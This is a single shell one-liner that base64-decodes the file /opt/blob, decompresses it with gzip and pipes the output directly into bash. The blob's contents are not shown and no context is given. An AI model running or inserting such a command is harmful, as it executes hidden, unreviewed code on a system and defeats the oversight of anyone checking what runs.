base64 -d < /opt/blob | gzip -dc | bash
